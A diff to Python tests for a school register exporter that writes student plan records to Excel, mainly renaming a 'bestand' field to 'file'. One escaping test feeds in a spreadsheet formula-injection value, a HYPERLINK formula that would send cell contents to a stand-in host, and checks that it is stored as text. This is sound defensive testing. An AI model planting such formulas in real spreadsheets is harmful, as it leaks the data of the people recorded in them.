@@ -134,7 +134,7 @@ def test_text_that_looks_like_a_formula_is_written_as_text(tmp_path):
 
 def test_equals_sign_and_control_characters_never_become_a_formula(tmp_path):
     row = register.RegisterRow("=1+1", naam='=HYPERLINK("https://x.example/?"&A1,"klik")', klas="\t=2",
-                       mentor="a\x01b", bestand="1A/OPP_1.docx")
+                       mentor="a\x01b", file="1A/OPP_1.docx")
     path = register.write(tmp_path, [row], date(2026, 10, 1))
     with zipfile.ZipFile(path) as zf:
         sheet = zf.read("xl/worksheets/sheet1.xml")
@@ -191,7 +191,7 @@ def test_a_register_that_cannot_be_written_costs_no_opp(tmp_path):
 
 def test_an_overdue_evaluation_of_a_set_plan_is_marked(tmp_path):
     row = register.RegisterRow("5", vastgesteld=date(2025, 9, 1), uiterste_vaststelling=date(2025, 9, 15),
-                       volgende_evaluatie=date(2026, 8, 31), bestand="1A/OPP_5.docx")
+                       volgende_evaluatie=date(2026, 8, 31), file="1A/OPP_5.docx")
     row = _sheet(register.write(tmp_path, [row], date(2026, 10, 1)), "OPP's")[0]
     assert row["Termijn"].value == "evaluatie verlopen"
     assert row["Volgende evaluatie"].fill.fgColor.rgb.endswith("FFC7CE")
@@ -214,19 +214,19 @@ def _rijen_van_elke_soort() -> list[register.RegisterRow]:
         register.RegisterRow("=1+1", naam="_x0041_ en -min", klas="\t=2", mentor="  spaties  ", status="ongewijzigd",
                      vastgesteld=date(2025, 9, 1), uiterste_vaststelling=date(2025, 9, 15),
                      volgende_evaluatie=date(2027, 8, 31), startdatum_opp=date(2025, 9, 1),
-                     einddatum_opp=date(2026, 7, 31), bestand="1A/OPP_1 é ü#%.docx"),
+                     einddatum_opp=date(2026, 7, 31), file="1A/OPP_1 é ü#%.docx"),
     ]
 
 
 def test_the_previous_register_reads_back_as_written(tmp_path, modus):
     rows = _rijen_van_elke_soort()
     for row in rows:
-        (tmp_path / row.bestand).parent.mkdir(parents=True, exist_ok=True)
-        (tmp_path / row.bestand).write_bytes(b"")
+        (tmp_path / row.file).parent.mkdir(parents=True, exist_ok=True)
+        (tmp_path / row.file).write_bytes(b"")
     today = date(2026, 10, 1)
     path = register.write(tmp_path, rows, today)
     terug = register._previous_rows(path)
-    verwacht = {r.bestand: replace(r, termijn=opp_rules.termijn(r.uiterste_vaststelling, r.vastgesteld, today,
+    verwacht = {r.file: replace(r, termijn=opp_rules.termijn(r.uiterste_vaststelling, r.vastgesteld, today,
                                                             r.volgende_evaluatie)) for r in rows}
     assert terug == verwacht
     # a second run without these students keeps their rows from this register, text unchanged
@@ -272,7 +272,7 @@ def test_a_register_saved_by_excel_or_an_older_version_is_read(tmp_path):
     wb.save(tmp_path / register.FILE_NAME)
     assert register._previous_rows(tmp_path / register.FILE_NAME) == {"2A/OPP_020273.docx": register.RegisterRow(
         "20273", "Bram", "2", uiterste_vaststelling=date(2026, 10, 5), documenten=2,
-        bestand="2A/OPP_020273.docx")}
+        file="2A/OPP_020273.docx")}
 
 
 def test_an_unreadable_previous_register_is_rebuilt_from_the_files(tmp_path, caplog):
@@ -287,23 +287,23 @@ def test_an_unreadable_previous_register_is_rebuilt_from_the_files(tmp_path, cap
 
 def test_the_previous_register_is_read_only_when_a_file_has_no_row(tmp_path, monkeypatch):
     """A re-run on the same export lists every file already: reading the old register is skipped."""
-    row = register.RegisterRow("5", bestand="1A/OPP_5.docx")
+    row = register.RegisterRow("5", file="1A/OPP_5.docx")
     (tmp_path / "1A").mkdir()
     (tmp_path / "1A/OPP_5.docx").write_bytes(b"")
     register.write(tmp_path, [row], date(2026, 10, 1))
-    gelezen = []
-    monkeypatch.setattr(register, "_previous_rows", lambda pad: gelezen.append(pad) or {})
+    read_result = []
+    monkeypatch.setattr(register, "_previous_rows", lambda path: read_result.append(path) or {})
     register.write(tmp_path, [row], date(2026, 10, 1))
-    assert gelezen == []
+    assert read_result == []
     register.write(tmp_path, [], date(2026, 10, 1))
-    assert gelezen == [tmp_path / register.FILE_NAME]
+    assert read_result == [tmp_path / register.FILE_NAME]
 
 
 def test_cleaned_text_from_the_export_is_written(tmp_path):
     """The reader marks text it had to clean with a str subclass (convert.Opgeschoond)."""
     from generator.read.convert import Cleaned
     row = register.RegisterRow("7", naam=Cleaned("Aisha El Idrissi"), mentor=Cleaned("=mw. X\x01"),
-                       bestand="1A/OPP_7.docx")
+                       file="1A/OPP_7.docx")
     row = _sheet(register.write(tmp_path, [row], date(2026, 10, 1)), "OPP's")[0]
     assert row["Naam"].value == "Aisha El Idrissi"
     assert row["Mentor"].value == "=mw. X\ufffd" and row["Mentor"].quotePrefix
